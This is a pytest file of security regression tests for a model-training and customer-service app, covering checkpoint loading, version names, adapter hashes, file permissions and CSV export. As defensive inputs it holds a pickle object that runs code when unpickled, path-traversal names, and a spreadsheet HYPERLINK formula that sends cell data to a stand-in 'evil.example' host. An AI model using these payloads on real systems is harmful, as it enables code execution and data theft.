"""Issue #20's security holes on the evolution, store, files and export side, each closed.

Real pieces throughout: real torch checkpoints, a real SQLite store, real child processes, the
real sentence encoder. The one stand-in is ``training_must_not_start``: a tripwire in place of
the training child where the point is that training never starts.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import sys
from pathlib import Path

import numpy as np
import pytest

from app import paths
from app.store import AdapterVersion, open_store

POSIX = os.name == "posix"


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --- 1. a resume checkpoint is never unpickled --------------------------------------------------


class RunsCodeWhenUnpickled:
    """What a planted ``state.pt`` can carry: unpickling it creates ``marker`` (any code could)."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (str(self.marker), "w"))


def tiny_optimizer() -> tuple[object, object, object]:
    torch = pytest.importorskip("torch", reason="training needs the [hf] extra")
    model = torch.nn.Linear(2, 2)
    optimizer = torch.optim.AdamW(model.parameters())
    scheduler = torch.optim.lr_scheduler.LambdaLR(optimizer, lambda step: 1.0)
    return model, optimizer, scheduler


def plant_checkpoint(out: Path, state: object, fingerprint: str | None) -> None:
    import torch

    folder = out / "checkpoint"
    (folder / "adapter").mkdir(parents=True)
    (folder / "adapter" / "adapter_model.safetensors").write_bytes(b"")
    torch.save(state, folder / "state.pt")
    if fingerprint is not None:
        (folder / "meta.json").write_text(json.dumps({"fingerprint": fingerprint, "step": 3}))


def test_a_planted_checkpoint_cannot_run_code_on_resume(tmp_path: Path) -> None:
    from app.evolve.train import _resume

    model, optimizer, scheduler = tiny_optimizer()
    marker = tmp_path / "code-ran"
    state = {"step": 3, "fingerprint": "fp", "optimizer": RunsCodeWhenUnpickled(marker)}
    plant_checkpoint(tmp_path, state, fingerprint="fp")
    events: list[dict[str, object]] = []
    assert _resume(model, optimizer, scheduler, tmp_path, "fp", events.append) == 0
    assert not marker.exists(), "unpickling the checkpoint ran code"
    assert "starting over" in str(events[-1]["message"])
    assert not (tmp_path / "checkpoint").exists(), "the unreadable checkpoint is dropped"


def test_a_checkpoint_of_another_config_is_not_even_read(tmp_path: Path) -> None:
    from app.evolve.train import _resume

    model, optimizer, scheduler = tiny_optimizer()
    plant_checkpoint(tmp_path, {"step": 3}, fingerprint="another config")
    # Not a torch file at all: reading it would raise.
    (tmp_path / "checkpoint" / "state.pt").write_bytes(b"\x80\x04garbage")
    events: list[dict[str, object]] = []
    assert _resume(model, optimizer, scheduler, tmp_path, "fp", events.append) == 0
    assert "another config" in str(events[-1]["message"])


# --- 2 and 5. versions are immutable, their names safe -------------------------------------------


@pytest.fixture
def training_must_not_start(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """A tripwire in place of the training child: records a start (the tests expect none)."""
    import app.evolve.cli as cli

    started: list[Path] = []

    def tripwire(config_path: Path, *args: object, **kwargs: object) -> tuple[str, dict[str, str]]:
        started.append(config_path)
        return "failed", {"event": "error", "message": "the tripwire stopped the training"}

    monkeypatch.setattr(cli, "run_training", tripwire)
    return started


def corpus_file(tmp_path: Path) -> Path:
    path = tmp_path / "corpus.jsonl"
    path.write_text(
        json.dumps({"context": ["可以选择快递吗？"], "reply": "亲，默认京东快递，也可以备注顺丰哦"})
        + "\n",
        encoding="utf-8",
    )
    return path


def test_training_never_writes_into_an_existing_version(
    tmp_path: Path, data_home: Path, training_must_not_start: list[Path], capsys
) -> None:
    from app.cli import main
    from app.evolve.versions import adapters_dir

    run = adapters_dir() / "lora-shop"
    (run / "adapter").mkdir(parents=True)
    (run / "data.jsonl").write_text("the active version's data\n")
    store = open_store()
    with store.session() as session:
        session.add(
            AdapterVersion(
                version="lora-shop",
                method="lora",
                base_model="qwen2.5-0.5b",
                path=str(run),
                metrics={},
                status="active",
            )
        )
    store.close()
    corpus = str(corpus_file(tmp_path))
    code = main(["train", "--corpus", corpus, "--format", "jsonl", "--name", "shop"])
    assert code != 0
    assert "already exists" in capsys.readouterr().err
    assert (run / "data.jsonl").read_text() == "the active version's data\n"
    assert training_must_not_start == []


def test_an_unnamed_training_gets_a_new_version_each_time(
    tmp_path: Path, data_home: Path, training_must_not_start: list[Path]
) -> None:
    from app.cli import main

    corpus = str(corpus_file(tmp_path))
    for _ in range(2):
        main(["train", "--corpus", corpus, "--format", "jsonl", "--steps", "1"])
    assert len(training_must_not_start) == 2
    assert training_must_not_start[0].parent != training_must_not_start[1].parent


def test_a_new_version_name_never_reuses_a_taken_one(data_home: Path) -> None:
    from app.evolve.versions import new_run_dir

    first = new_run_dir("lora-20261204-101500")
    second = new_run_dir("lora-20261204-101500")
    assert first.name == "lora-20261204-101500" and second.name == "lora-20261204-101500-2"
    assert first.is_dir() and second.is_dir()


@pytest.mark.parametrize(
    "name",
    [
        "../x",
        "x/../../escaped",
        "/etc",
        "a b",
        "..",
        "",
        "x" * 80,
        "名字",
        "-x",
        "a\\b",
        "x\n",
        "None",
    ],
)
def test_unsafe_version_names_are_refused_with_a_clear_error(name: str) -> None:
    from app.evolve.versions import check_version_name

    with pytest.raises(ValueError, match="adapter version name"):
        check_version_name(name)


def test_good_version_names_pass() -> None:
    from app.evolve.versions import check_version_name

    for name in ("lora-quick", "ptuning-v2-hl-s4", "lora-20261204-101500-2", "v1.2_b"):
        assert check_version_name(name) == name


def test_a_name_cannot_escape_the_adapters_folder(
    tmp_path: Path, data_home: Path, training_must_not_start: list[Path], capsys
) -> None:
    from app.cli import main

    corpus = str(corpus_file(tmp_path))
    code = main(["train", "--corpus", corpus, "--format", "jsonl", "--name", "x/../../escaped"])
    assert code != 0
    assert "adapter version name" in capsys.readouterr().err
    assert not (data_home / "escaped").exists()
    assert training_must_not_start == []


def test_a_damaged_served_adapter_is_told_apart_from_its_recorded_hash(
    tmp_path: Path, data_home: Path
) -> None:
    from app.evolve.promotion import AdapterDamaged, sha256_of, verified_served_path

    run = tmp_path / "v1"
    run.mkdir()
    gguf = run / "adapter.gguf"
    gguf.write_bytes(os.urandom(64))
    row = AdapterVersion(
        version="v1", method="lora", base_model="b", path=str(run), metrics={}, status="active"
    )
    with pytest.raises(AdapterDamaged, match="no recorded hash"):
        verified_served_path(row)
    row.metrics = {"sha256": sha256_of(gguf)}
    assert verified_served_path(row) == gguf
    gguf.write_bytes(os.urandom(64))
    with pytest.raises(AdapterDamaged, match="base model"):
        verified_served_path(row)


def test_a_swapped_active_adapter_falls_back_to_the_base_model(
    tiny_qwen_dir: Path, tmp_path: Path
) -> None:
    """A real engine (transformers, a tiny Qwen2) and real peft adapters: another valid adapter
    put in the active one's place would be loaded without a word; the recorded hash stops it."""
    torch = pytest.importorskip("torch", reason="the transformers backend needs the [hf] extra")
    from peft import PrefixTuningConfig, get_peft_model
    from transformers import AutoModelForCausalLM

    from app.engine.conversation import system_prompt
    from app.engine.end_model import EndModel
    from app.engine.hf_backend import TransformersBackend
    from app.engine.weights import ModelSource
    from app.errors import XiaoerError
    from app.evolve.promotion import apply_active_adapter, sha256_of

    run = tmp_path / "v1"
    for folder, seed in (("adapter", 0), ("another", 1)):
        torch.manual_seed(seed)
        base = AutoModelForCausalLM.from_pretrained(tiny_qwen_dir)
        config = PrefixTuningConfig(task_type="CAUSAL_LM", num_virtual_tokens=4)
        get_peft_model(base, config).save_pretrained(run / folder)
    store = open_store(f"sqlite:///{tmp_path / 'x.db'}")
    with store.session() as session:
        session.add(
            AdapterVersion(
                version="v1",
                method="prefix",
                base_model="tiny",
                path=str(run),
                metrics={"sha256": sha256_of(run / "adapter")},
                status="active",
            )
        )
    weights = "adapter_model.safetensors"
    (run / "adapter" / weights).write_bytes((run / "another" / weights).read_bytes())
    backend = TransformersBackend(ModelSource("tiny", tiny_qwen_dir, "hf"), device="cpu")
    model = EndModel(backend, system_prompt("zh"))
    try:
        with pytest.raises(XiaoerError, match="serving the base model"):  # AdapterDamaged
            apply_active_adapter(model, store)
        assert model.active_adapter is None and "v1" not in backend.adapters
    finally:
        store.close()


# --- 3. crash-safe writes; a damaged embedding cache is rebuilt ------------------------------


def test_an_interrupted_write_leaves_the_old_file_and_no_leftovers(tmp_path: Path) -> None:
    from app.fsio import atomic_write, atomic_write_text

    target = tmp_path / "state.json"
    atomic_write_text(target, '{"old": true}')

    def dies_halfway(fh) -> None:
        fh.write(b'{"new": ')
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        atomic_write(target, dies_halfway)
    assert target.read_text() == '{"old": true}'
    assert [p.name for p in tmp_path.iterdir()] == ["state.json"]


STATE_WRITERS = [
    "app/cloud/prompt.py",  # the embedding cache
    "app/scoring/matcher_train.py",  # matcher weights and meta
    "app/engine/gguf_lora.py",  # the GGUF LoRA export
    "app/evolve/train.py",  # adapters, checkpoints, metrics
    "app/evolve/config.py",  # run configs
    "app/evolve/settings.py",  # evolution settings
    "app/ui/settings.py",  # the app's settings and state
    "app/engine/weights.py",  # model stamps and the user's model list
    "app/cloud/providers.py",  # the teacher's settings
    "app/settings_file.py",  # every setting, in sections (the UI, evolution, the teacher)
    "app/local_server/teacher_server.py",  # the local teacher's state file (its key)
]


@pytest.mark.parametrize("module", STATE_WRITERS)
def test_state_files_are_written_only_through_the_safe_writer(module: str) -> None:
    source = (Path(__file__).resolve().parents[1] / module).read_text(encoding="utf-8")
    for direct in ("np.save(", "np.savez(", ".write_text(", ".write_bytes("):
        assert direct not in source, f"{module} writes with {direct}…): use app.fsio"


def test_a_truncated_embedding_cache_is_rebuilt(tmp_path: Path) -> None:
    from app.cloud.prompt import ExampleBank, PromptExample

    examples = [
        PromptExample("可以选择快递吗？", "可以的，下单备注快递公司即可"),
        PromptExample("这件衣服有红色吗", "有的亲"),
        PromptExample("发什么快递", "默认发中通快递"),
    ]
    ExampleBank(examples, cache_dir=tmp_path).retrieve("发什么快递", k=1)
    (cache,) = tmp_path.glob("examples-*.npy")
    whole = np.load(cache)
    cache.write_bytes(cache.read_bytes()[: cache.stat().st_size // 2])  # a crash mid-write

    bank = ExampleBank(examples, cache_dir=tmp_path)
    assert bank.retrieve("我想指定快递公司", k=1)[0].query in {"可以选择快递吗？", "发什么快递"}
    np.testing.assert_allclose(np.load(cache), whole, rtol=1e-6)


def test_a_cache_of_the_wrong_shape_is_rebuilt(tmp_path: Path) -> None:
    from app.cloud.prompt import ExampleBank, PromptExample

    examples = [
        PromptExample("可以选择快递吗？", "可以的"),
        PromptExample("发什么快递", "默认发中通快递"),
    ]
    bank = ExampleBank(examples, cache_dir=tmp_path)
    np.save(tmp_path / f"examples-{bank.digest}.npy", np.zeros((5, 3), dtype=np.float32))
    assert bank.retrieve("发什么快递", k=1)[0].query == "发什么快递"


# --- 4. private data dir, database and logs -------------------------------------------------


@pytest.fixture
def open_umask():
    old = os.umask(0o022)  # a common default: new files world-readable
    yield
    os.umask(old)


@pytest.mark.skipif(not POSIX, reason="POSIX file modes")
def test_the_data_dir_database_and_logs_are_private(data_home: Path, open_umask) -> None:
    from app.store.db import default_path

    assert mode_of(paths.data_dir()) == 0o700
    store = open_store()
    with store.session() as session:
        store.get_or_create_customer(session, "c1")
    db = default_path()
    assert mode_of(db) == 0o600
    for side in ("-wal", "-shm"):
        sidecar = db.with_name(db.name + side)
        assert sidecar.exists() and mode_of(sidecar) == 0o600, side
    store.close()
    assert mode_of(paths.logs_dir()) == 0o700
    from app.store.migrate import _backup

    assert mode_of(_backup(db, "0001")) == 0o600, "the copy taken before a migration"


@pytest.mark.skipif(not POSIX, reason="POSIX file modes")
def test_an_existing_world_readable_data_dir_and_database_are_tightened(
    tmp_path: Path, data_home: Path, open_umask
) -> None:
    data_home.mkdir(mode=0o755)
    db = data_home / "xiaoer.db"
    open_store().close()
    os.chmod(data_home, 0o755)
    os.chmod(db, 0o644)
    open_store().close()
    assert mode_of(data_home) == 0o700 and mode_of(db) == 0o600
    other = tmp_path / "elsewhere.db"
    open_store(f"sqlite:///{other}").close()
    assert mode_of(other) == 0o600


# --- 6. CSV export can't smuggle a formula into a spreadsheet ---------------------------------


def test_the_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    from app.ui.workspace import Workspace

    store = open_store(f"sqlite:///{tmp_path / 'x.db'}")
    texts = [
        '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
        "+86 138",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "价格 -5 元 = 优惠",
        "",
    ]
    with store.session() as session:
        who = store.get_or_create_customer(session, "c1")
        conversation = store.open_conversation(session, who.id, "manual")
        for text in texts:
            store.add_message(session, conversation.id, "customer", text)
        conversation_id = conversation.id
    rows = list(csv.reader(io.StringIO(Workspace(store).export_csv(conversation_id))))
    store.close()
    cells = [row[4] for row in rows[1:]]
    assert cells[:7] == ["'" + text for text in texts[:7]]
    assert cells[7:] == texts[7:], "ordinary text is left as it is"
    assert rows[0][0] == "conversation"


def test_spreadsheet_safe_leaves_numbers_and_plain_text() -> None:
    from app.ui.workspace import spreadsheet_safe

    assert spreadsheet_safe(42) == 42
    assert spreadsheet_safe("2026-12-04T10:00:00") == "2026-12-04T10:00:00"
    assert spreadsheet_safe("=1") == "'=1"


# --- 7. deeply nested JSON is a clear error, not a crash -------------------------------------

DEEP = "[" * 100_000 + "]" * 100_000


def nested_file(tmp_path: Path) -> Path:
    path = tmp_path / "deep.jsonl"
    good = json.dumps(
        {"context": ["发什么快递"], "reply": "默认发中通快递哦亲"}, ensure_ascii=False
    )
    path.write_text(good + "\n" + '{"context": ' + DEEP + ', "reply": "x"}\n', encoding="utf-8")
    return path


def test_deeply_nested_training_records_are_a_clear_error(tmp_path: Path) -> None:
    from app.evolve.data import read_examples

    with pytest.raises(ValueError, match=r"deep\.jsonl:2: .*nested too deeply"):
        read_examples(nested_file(tmp_path))


def test_deeply_nested_labeling_records_are_a_clear_error(tmp_path: Path) -> None:
    from app.cloud.label import read_tasks

    with pytest.raises(ValueError, match=r"deep\.jsonl:2: .*nested too deeply"):
        read_tasks(nested_file(tmp_path), "jsonl")


def test_deeply_nested_items_files_are_a_clear_error(tmp_path: Path) -> None:
    from app.evolve.evaluate import read_items

    with pytest.raises(ValueError, match=r"deep\.jsonl.*nested too deeply"):
        read_items(nested_file(tmp_path))


# --- 8. the training child's last words are kept; an out-of-memory kill says so --------------

KILLS_ITSELF = """#!/bin/sh
i=1
while [ $i -le 80 ]; do echo "loading shard $i" >&2; i=$((i+1)); done
echo "RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB" >&2
kill -9 $$
"""

FAILS_LOUDLY = """#!/bin/sh
echo '{"event": "start", "examples": 1, "steps": 1}'
i=1
while [ $i -le 80 ]; do echo "noise line $i" >&2; i=$((i+1)); done
echo "Traceback: ImportError: libcuda.so.1 not found" >&2
exit 3
"""


def fake_python(tmp_path: Path, script: str, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The interpreter the trainer is started with, replaced by a shell script (a real child)."""
    exe = tmp_path / "python"
    exe.write_text(script)
    exe.chmod(0o755)
    monkeypatch.setattr(sys, "executable", str(exe))
    return exe


@pytest.mark.skipif(not POSIX, reason="a child killed by SIGKILL")
def test_an_out_of_memory_kill_of_the_trainer_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog
) -> None:
    from app.evolve.trainer_process import run_training

    fake_python(tmp_path, KILLS_ITSELF, monkeypatch)
    (tmp_path / "run.json").write_text("{}")
    events: list[dict[str, object]] = []
    with caplog.at_level("WARNING", logger="app.evolve.trainer_process"):
        status, last = run_training(tmp_path / "run.json", events.append)
    assert status == "failed"
    message = str(last["message"])
    assert "killed, most likely out of memory" in message
    assert "CUDA out of memory" in message, "the child's last words are in the error"
    tail = last["stderr"]
    assert isinstance(tail, list) and len(tail) == 50
    assert tail[-1].startswith("RuntimeError: CUDA out of memory") and tail[0] == "loading shard 32"
    assert "CUDA out of memory" in caplog.text, "and logged"


@pytest.mark.skipif(not POSIX, reason="a shell script as the child")
def test_a_failed_trainer_keeps_its_last_lines(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from app.evolve.trainer_process import run_training

    fake_python(tmp_path, FAILS_LOUDLY, monkeypatch)
    (tmp_path / "run.json").write_text("{}")
    status, last = run_training(tmp_path / "run.json")
    assert status == "failed"
    assert "exited with code 3" in str(last["message"])
    assert "libcuda.so.1 not found" in str(last["message"])
    assert "noise line 1" not in last["stderr"]
